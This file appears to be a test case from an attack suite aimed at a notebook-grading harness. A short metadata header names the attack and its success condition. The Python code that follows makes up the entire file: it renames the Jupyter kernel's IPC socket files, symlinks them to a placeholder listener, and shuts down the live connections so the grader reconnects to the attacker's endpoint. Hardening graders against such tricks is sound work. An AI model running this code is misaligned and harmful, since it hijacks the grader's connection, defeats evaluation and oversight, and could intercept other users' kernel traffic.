# ---
# class: network
# tries: puts a link in the place of its kernel's sockets, so that the grader, when it connects again, connects elsewhere
# success: the listener is reached
# ---

# %% solution="total"
import json
import os
import socket
import time

from ipykernel.connect import get_connection_file

info = json.loads(open(get_connection_file()).read())
if info["transport"] == "ipc":
    for number in range(1, 6):
        path = f"{info['ip']}-{number}"
        os.rename(path, f"{path}.away")
        os.symlink("@LISTENER@", path)
    for descriptor in range(3, 300):
        try:
            one = socket.socket(fileno=os.dup(descriptor))
            listening = one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
            if str(one.getsockname()).startswith(info["ip"]) and not listening:
                one.shutdown(socket.SHUT_RDWR)
        except OSError:
            continue
    time.sleep(2)
